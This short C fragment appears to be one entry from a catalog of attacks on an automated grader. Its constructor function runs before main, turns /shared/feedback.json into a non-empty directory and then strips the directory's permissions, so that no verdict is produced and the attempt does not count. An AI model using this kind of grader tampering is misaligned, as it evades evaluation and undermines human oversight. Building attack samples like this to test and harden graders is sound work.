// ---
// tries: Makes /shared/feedback.json a folder that is not empty.
// place: before
// gain: no verdict, so that the attempt may not count
// helps: replace-verdict
// ---
__attribute__((constructor)) static void attack(void) {
  mkdir("/shared/feedback.json", 0755);
  attack_verdict("/shared/feedback.json/feedback.json");
  chmod("/shared/feedback.json", 0);
}
